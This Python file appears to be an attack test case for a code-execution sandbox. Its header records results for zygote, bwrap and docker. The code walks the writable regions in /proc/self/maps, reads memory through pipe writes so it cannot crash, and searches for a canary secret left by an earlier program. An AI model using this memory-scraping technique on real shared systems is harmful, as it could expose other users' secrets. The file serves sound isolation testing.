# /// attack
# tries = "finds the source, input or output of an earlier program in its memory"
# zygote = ["ok"]
# bwrap = ["ok"]
# docker = ["ok"]
# rlimit = "not covered"
# control = "none: needs an earlier run"
# earlier = true
# policy = { time_s = 15.0 }
# ///
import ctypes
import gc
import re

pattern = re.compile(("GEM" + "-BAIT" + "-[0-9a-f]{32}").encode())
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
reader, writer = os.pipe()
os.set_blocking(writer, False)
SPAN = 48 << 20
blocks = [id(object()), id(gc.get_objects()[0]), libc.malloc(64), libc.malloc(300 << 10)]
blocks += [id(bytearray(1 << 16)), ctypes.addressof(ctypes.create_string_buffer(1 << 20))]
areas = set()
with contextlib.suppress(OSError), open("/proc/self/maps") as file:
    for line in file:
        ends, rights = line.split()[:2]
        low, high = (int(end, 16) for end in ends.split("-"))
        if rights.startswith("rw"):
            areas.update(range(low, min(high, low + (256 << 20)), 65536))
if not areas:
    for block in blocks:
        areas.update(range((block - SPAN) & ~65535, block + SPAN, 65536))
tail = b""


def read(start, size):
    # A write to a pipe reads memory that may not be mapped, without the risk of a crash.
    written = libc.write(writer, ctypes.c_void_p(start), ctypes.c_size_t(size))
    return os.read(reader, written) if written > 0 else b""


for start in sorted(areas):
    data = read(start, 65536)
    for page in range(start + len(data), start + 65536, 4096):
        data += read(page, 4096)
    if pattern.search(tail + data):
        breach("found an earlier program's secret in memory")
        break
    tail = data[-64:]
